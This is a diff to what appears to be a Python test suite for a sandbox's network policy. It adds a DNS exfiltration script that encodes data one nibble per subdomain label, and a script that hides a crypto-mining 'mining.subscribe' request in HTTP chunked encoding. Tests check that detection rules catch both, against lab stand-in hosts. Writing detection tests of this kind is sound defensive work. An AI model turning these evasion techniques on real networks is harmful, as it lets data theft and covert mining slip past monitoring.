@@ -395,6 +395,10 @@ if mode == "exfil":
     for i in range(0, len(secret), 24):
         out.append(query(secret[i:i + 24] + ".allowed.lab.test"))
     print(out.count("id-ok rcode=0"), out.count("id-ok rcode=5"), len(out))
+elif mode == "deep":  # one nibble per label: every label is one of 16 already seen
+    secret = os.urandom(1500).hex()
+    for i in range(0, len(secret), 8):
+        query(".".join(secret[i:i + 8]) + ".x.allowed.lab.test")
 elif mode == "shapes":
     print(query("AlLoWeD.LaB.TeSt", qid=4242), query("allowed.lab.test", qtype=16))
 """
@@ -429,6 +433,48 @@ def test_dns_exfiltration_under_an_allowed_wildcard_stops_within_1kb(
     queries = [e for e in session.events if e.kind is EventKind.DNS_QUERY]
     assert queries and all(q.call_id == "exfil" for q in queries)
     assert all(q.pid is not None for q in queries[:20])
+
+
+def test_dns_exfiltration_one_nibble_per_label_stops_within_1kb(
+        lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(policy({"domain": "*.allowed.lab.test"}), lab=True)
+    session.write_file("/workspace/dns.py", DNS_CLIENT)
+    start = len(lab.dns_log())
+    session.exec(["python3", "/workspace/dns.py", "deep"], call_id="deep", timeout=120)
+    assert 0 < _label_bytes(lab, start) <= 1024
+    assert any(v.rule_id == "tunnels.dns_exfil" and v.call_id == "deep"
+               for v in session.verdicts)
+
+
+CHUNKED = r"""
+import json, socket, sys
+body = json.dumps({"id": 1, "method": "mining.subscribe", "params": ["x"]}).encode() + b"\n"
+s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
+s.sendall(b"POST /rpc HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n"
+          b"Transfer-Encoding: chunked\r\n\r\n")
+for i in range(0, len(body), 5):
+    part = body[i:i + 5]
+    s.sendall(b"%x\r\n%s\r\n" % (len(part), part))
+s.sendall(b"0\r\n\r\n")
+try:
+    print(s.recv(200))
+except OSError as exc:
+    print("cut", exc)
+"""
+
+
+def test_stratum_in_a_chunked_body_is_cut(lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(policy({"domain": RELAY}), lab=True)
+    session.write_file("/workspace/chunked.py", CHUNKED)
+    before = len(lab.relay_bytes())
+    session.exec(["python3", "/workspace/chunked.py"], call_id="chunked")
+    cut = wait_events(session, EventKind.NET_FLOW,
+                      lambda e: e.get("net.rule") == "gateway.miner_protocol")
+    assert cut and cut[0].call_id == "chunked"
+    # chunks before the one that completed the method name went out (an incomplete
+    # message the pool cannot act on); the one that completed it and the rest did not
+    received = re.sub(rb"\r\n[0-9a-f]+\r\n", b"", lab.relay_bytes()[before:])
+    assert b'"mining.subscribe"' not in received and b"params" not in received
 
 
 def test_dns_exfil_attempt_through_refused_names_is_reported(
